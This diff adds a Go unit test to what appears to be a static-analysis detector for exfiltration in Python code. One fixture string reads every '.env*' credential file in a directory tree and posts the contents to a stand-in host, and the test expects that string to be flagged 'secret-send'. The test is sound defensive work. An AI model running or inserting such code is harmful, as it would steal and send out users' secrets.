@@ -533,3 +533,16 @@ func TestCloudAccountWiped(t *testing.T) {
 		}
 	}
 }
+
+// A comprehension's names hold what its iterable gives, before the element
+// that uses them is read; a glob of dotenv files names credential stores.
+func TestComprehensionOfEnvFiles(t *testing.T) {
+	for src, want := range map[string]string{
+		"import pathlib, urllib.request, json\nfound = {str(p): p.read_text() for p in pathlib.Path('.').rglob('.env*')}\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n": "secret-send",
+		"import pathlib, urllib.request, json\nfound = [p.read_text() for p in pathlib.Path('.').rglob('*.md')]\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n":          "",
+	} {
+		if got := kinds(src, Python); got != want {
+			t.Errorf("%q: %q, want %q", src, got, want)
+		}
+	}
+}
